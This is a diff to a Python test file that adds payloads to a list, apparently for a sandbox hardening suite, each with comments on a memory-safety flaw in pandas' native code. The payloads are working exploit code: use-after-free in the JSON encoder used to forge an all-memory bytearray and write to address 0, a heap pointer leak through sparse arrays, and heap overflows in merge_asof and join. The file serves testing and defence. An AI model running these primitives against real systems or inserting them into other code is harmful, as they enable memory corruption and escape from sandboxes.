@@ -4473,6 +4473,157 @@ PAYLOADS = [
             plt.imsave(b, np.random.rand(64, 64, 4), format="jpeg2000")
             return len(b.getvalue())
         """, on={GUARD, EXCEPTION}, off={OK}),
+
+    # review 21 (2026-12-04): pandas' native code calling the code's Python
+    # review rev21: pandas' JSON encoder (ujson, objToJSON.c) holds a dict's
+    # value borrowed across PyObject_Str(key): a key's __str__ that clears the
+    # dict freed the value, refilled by a bytearray's buffer as a fake
+    # bytearray over all memory, which the encoder handed to default_handler
+    # (the payload writes address 0 with it: a crash means the hole is open)
+    Payload("pandas-json-dict-key-str-frees-value", """
+        import struct
+        import pandas as pd
+        keep = []
+        got = []
+        fake = []
+        class K:
+            def __init__(self, d):
+                self.d = d
+            def __hash__(self):
+                return 1
+            def __eq__(self, o):
+                return self is o
+            def __str__(self):
+                self.d.clear()
+                keep.append(bytearray(fake[0]))
+                return "k"
+        def handler(o):
+            got.append(o)
+            return "h"
+        def main():
+            f = struct.pack("<qqqqqqq", 2**40, id(bytearray), 2**62, 2**62 + 1, 0, 0, 0)
+            fake.append(f + b"\\0" * (95 - len(f)))
+            d = {}
+            d[K(d)] = "x" * 38 + str(len(keep) + 10)
+            s = pd.Series([d]).to_json(default_handler=handler)
+            for o in got:
+                if type(o) is bytearray and len(o) > 2**40:
+                    o[0] = 1                # a write anywhere: address 0
+            return s
+        """, on={OK}, off={CRASH}),
+    # review rev21: the encoder walks a list by borrowed items up to the
+    # length it had when it began; a default_handler that empties the list
+    # made it read the freed (NULL) item array
+    Payload("pandas-json-list-shrunk-by-default-handler", """
+        import pandas as pd
+        class X:
+            pass
+        held = []
+        def handler(o):
+            held[0].clear()
+            return "h"
+        def main():
+            held.append([X()] + ["y" * 40 + str(i) for i in range(8)])
+            return pd.io.json.dumps(held[0], default_handler=handler)
+        """, on={OK}, off={CRASH}),
+    Payload("pandas-json-hashable-list-series-name", """
+        import pandas as pd
+        class X:
+            pass
+        class HL(list):
+            def __hash__(self):
+                return 1
+        held = []
+        def handler(o):
+            held[0].clear()
+            return "h"
+        def main():
+            held.append(HL([X()] + ["y" * 40 + str(i) for i in range(8)]))
+            s = pd.Series([1, 2], name=held[0])
+            return s.to_json(orient="split", default_handler=handler)
+        """, on={OK}, off={CRASH}),
+    # review rev21: merge_asof(by=) of objects set_item()s the right frame's
+    # keys into a PyObjectHashTable borrowed from its own column; a key's
+    # __eq__ that empties that column freed the table's keys (SIGSEGV)
+    Payload("pandas-merge-asof-by-object-keys-freed", """
+        import pandas as pd
+        state = {"view": None}
+        junk = []
+        class H:
+            def __hash__(self):
+                return 7
+            def __eq__(self, other):
+                v = state["view"]
+                if v is not None:
+                    state["view"] = None
+                    for i in range(len(v)):
+                        v[i] = None
+                    for i in range(2000):
+                        junk.append(bytearray(b"A" * 31))
+                return False
+            def __lt__(self, other):
+                return False
+        def main():
+            left = pd.DataFrame({"t": [10], "k": [H()]})
+            right = pd.DataFrame({"t": [1, 2, 3, 4, 5], "k": [H(), H(), H(), H(), H()]})
+            state["view"] = right["k"].values
+            return pd.merge_asof(left, right, on="t", by="k").shape[0]
+        """, on={OK}, off={CRASH}),
+    # review rev21: a BlockIndex's blengths is a public writable array; the
+    # sparse binary ops (boundscheck off) walk the values by its current
+    # lengths: 300 values read from an array of 2 (heap pointers as floats)
+    Payload("pandas-sparse-blengths-heap-read", """
+        import numpy as np
+        import pandas as pd
+        def main():
+            a = np.zeros(1000)
+            a[10] = 1.5
+            a[500] = 2.5
+            x = pd.arrays.SparseArray(a, kind="block", fill_value=0.0)
+            y = pd.arrays.SparseArray(a, kind="block", fill_value=0.0)
+            x.sp_index.blengths[0] = 300
+            z = x + y
+            words = np.asarray(z.sp_values).view("u8")
+            return [hex(int(u)) for u in words if 0x550000000000 <= int(u) < 0x800000000000]
+        """, on={GUARD}, off={OK, CRASH}),
+    # review rev21: libjoin's left/inner/outer join indexers count matches
+    # in one pass and write those of a second pass (boundscheck off); the
+    # code's __eq__ answering the second pass otherwise wrote 600 positions
+    # and object pointers into arrays of 0 (heap overflow, SIGSEGV)
+    Payload("pandas-join-indexer-two-pass-overflow", """
+        import pandas as pd
+        st = {"n": 0, "limit": -1}
+        class K:
+            def __init__(self, k):
+                self.k = k
+            def __hash__(self):
+                return hash(self.k)
+            def __lt__(self, o):
+                return self.k < o.k
+            def __gt__(self, o):
+                return self.k > o.k
+            def __le__(self, o):
+                return self.k <= o.k
+            def __ge__(self, o):
+                return self.k >= o.k
+            def __eq__(self, o):
+                st["n"] += 1
+                if st["limit"] < 0:
+                    return False
+                return st["n"] > st["limit"]
+            def __ne__(self, o):
+                return not (self == o)
+        def run(n):
+            a = pd.Index([K(i) for i in range(n)], dtype=object)
+            b = pd.Index([K(i) for i in range(n)], dtype=object)
+            st["n"] = 0
+            return a.join(b, how="inner", return_indexers=True)
+        def main():
+            st["limit"] = -1
+            run(300)
+            st["limit"] = st["n"] // 2      # False in the counting pass, True in the writing one
+            return len(run(300)[0])
+        """, on={OK}, off={CRASH}),
 ]
 
 # Raw system calls the allowlist must refuse (or answer with ENOSYS).
